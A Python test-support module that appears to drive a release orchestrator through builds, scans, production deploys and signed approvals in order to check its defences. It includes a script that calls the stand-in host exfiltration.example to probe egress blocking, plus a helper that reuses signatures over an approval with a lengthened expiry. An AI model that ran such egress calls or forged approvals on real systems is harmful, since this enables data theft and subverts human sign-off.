"""A site with the shipped rules of production, people who may sign, and what attackers on the way of a release do."""

from __future__ import annotations

import json
import shutil
import time
from pathlib import Path
from typing import Any

import aiohttp
import yaml
from issuer import ISSUER
from site_under_attack import Site

from orchestrator.evidence.approvals.envelopes import Envelope
from orchestrator.evidence.approvals.statements import SECOND, Predicate, moment
from orchestrator.policy.bundle import default_bundle
from orchestrator.testing.approvals import exception, id_of, public_pem, signed

SCANNER = "attack-scanner"
PEOPLE = {
    "alice": {
        "keys": [public_pem("alice"), public_pem("alice-second")],
        "may": [{"kinds": ["security", "break_glass", "override", "review"], "environments": ["prod"]}],
    },
    "bob": {"keys": [public_pem("bob")], "may": [{"kinds": ["security", "break_glass"], "environments": ["prod"]}]},
    "carol": {"keys": [public_pem("carol")]},
    "dave": {
        "keys": [public_pem("dave")],
        "identities": [{"issuer": ISSUER, "subject": "repo:acme/app"}],
        "may": [{"kinds": ["security", "break_glass"], "environments": ["prod"]}],
    },
}
"""carol may ask only; dave is who the pipeline runs as; mallory is nobody."""

BOM = {"bomFormat": "CycloneDX", "specVersion": "1.6", "components": [{"type": "library", "name": "a", "version": "1"}]}
CLEAN = {"SchemaVersion": 2, "ArtifactName": "app", "Results": [{"Target": "app", "Vulnerabilities": []}]}


def write(name: str, document: Any) -> str:
    """A line of a script that makes a file of JSON."""
    return f"cat > {name} <<'END'\n{json.dumps(document)}\nEND\n"


BUILD = write("bom.json", BOM) + 'printf %s "$CONTENT" > app\norchestrator-artifact app --sbom bom.json\n'
REACH = """"$PYTHON" -c '
import urllib.error, urllib.request
try:
    urllib.request.urlopen("http://exfiltration.example/", timeout=5)
except urllib.error.URLError as error:
    print("refused", error)
'
"""


def rules(folder: Path) -> Path:
    """The shipped bundle, whose prod takes what this machine's sandboxes build, and needs no GitHub and no tracker."""
    bundle = folder / "shipped"
    shutil.copytree(default_bundle(), bundle)
    path = bundle / "data.json"
    data = json.loads(path.read_text("utf-8"))
    prod = data["environments"]["prod"]
    prod["approved_bases"].append("host-toolchain")
    prod["scans"]["scanners"] = [SCANNER]
    prod["provenance"]["egress_refused_allowed"] = False
    prod["source"] = {"required": False}
    prod["ticket"] = {"required": False}
    path.write_text(json.dumps(data), encoding="utf-8")
    return bundle


def settings(folder: Path, pools: list[dict[str, Any]]) -> dict[str, Any]:
    folder.mkdir(exist_ok=True)
    people = folder / "people.yaml"
    people.write_text(yaml.safe_dump({"version": 1, "people": PEOPLE}), encoding="utf-8")
    scan = next(one for one in pools if one["name"] == "release") | {"name": "scan"}
    return {
        "policy": {"bundle": str(rules(folder))},
        "approvals": {"people": str(people)},
        "promotion": {"scanners": {SCANNER: {"pools": ["scan"]}}},
        "pools": [*pools, scan],
    }


class Release:
    """What is done on the way of a release, rightly or not. Each job has a key of its own."""

    def __init__(self, site: Site) -> None:
        self.site = site
        self._count = 0

    async def job(self, script: str, repository: str = "acme/app", **more: Any) -> dict[str, Any]:
        """A job's view at its end."""
        self._count += 1
        token = self.site.platform.token(repository)
        answer = await self.site.dispatch_as(token, f"release-{self._count}", script=script, **more)
        assert answer.status == 202, answer
        return await self.site.installation.finished(answer.body["id"])

    async def build(self, content: str = "good", extra: str = "", **more: Any) -> str:
        """The digest of what a job built and reported with its bill of materials."""
        view = await self.job(f"CONTENT={content!r}\n{extra}{BUILD}", **({"pool": "release"} | more))
        assert view["result"] == "success", (view, await self.site.log(view["id"]))
        return str(view["artifacts"][0]["digest"])

    async def scan(self, digest: str, pool: str = "scan") -> None:
        script = (
            write("report.json", CLEAN)
            + f"orchestrator-artifact attest {digest} --scan report.json --scanner {SCANNER}"
        )
        view = await self.job(script + "\n", pool=pool)
        assert view["result"] == "success", (view, await self.site.log(view["id"]))

    async def deploy(self, digest: str, repository: str = "acme/app", script: str = "true\n") -> dict[str, Any]:
        asked = {"pool": "release", "deployment_environment": "prod", "artifact_digest": digest}
        return await self.job(script, repository, **asked)

    async def refusals(self, digest: str, repository: str = "acme/app") -> set[str]:
        """The codes for which production is refused; none when it was allowed."""
        view = await self.deploy(digest, repository)
        codes = {reason["code"] for one in view["decisions"] for reason in one["reasons"]}
        assert (view["result"] == "denied") is bool(codes), view
        return codes

    async def give_in(self, envelope: Envelope) -> tuple[int, dict[str, Any]]:
        """Status and answer, as operators get them: only signatures count."""
        return await self._call("POST", "/v1/approvals", json.loads(envelope.text()))

    async def state(self, predicate: Predicate, job: str = "") -> str:
        """Why it counts for nothing, or that it counts."""
        _, view = await self._call("GET", f"/v1/approvals/{id_of(predicate)}" + (f"?job={job}" if job else ""))
        return str(view["state"])

    async def _call(self, method: str, path: str, body: Any = None) -> tuple[int, dict[str, Any]]:
        here = self.site.installation
        token = (here.state / "caller-token").read_text(encoding="utf-8")
        headers = {"Authorization": f"Bearer {token}"}
        async with (
            aiohttp.ClientSession() as session,
            session.request(method, here.url + path, json=body, headers=headers) as answer,
        ):
            return answer.status, await answer.json(content_type=None)


def emergency(digest: str, begun: float = -60, lasts: float = 1800, **more: Any) -> Any:
    """A break-glass for this artifact without a security approval; times are seconds from now."""
    now = time.time_ns()
    times = {"starts_at": moment(now + int(begun * SECOND)), "expires_at": moment(now + int((begun + lasts) * SECOND))}
    given = {"artifact_digest": digest, "waives": ("security_approval_missing",)} | times
    return exception(**given | more)


def stretched(envelope: Envelope, until: str) -> Envelope:
    """The same signatures over an object that lasts longer."""
    statement = json.loads(envelope.payload)
    statement["predicate"]["expires_at"] = until
    payload = json.dumps(statement, sort_keys=True, separators=(",", ":")).encode()
    return Envelope(payload, envelope.signatures)


__all__ = ["Release", "emergency", "settings", "signed", "stretched"]
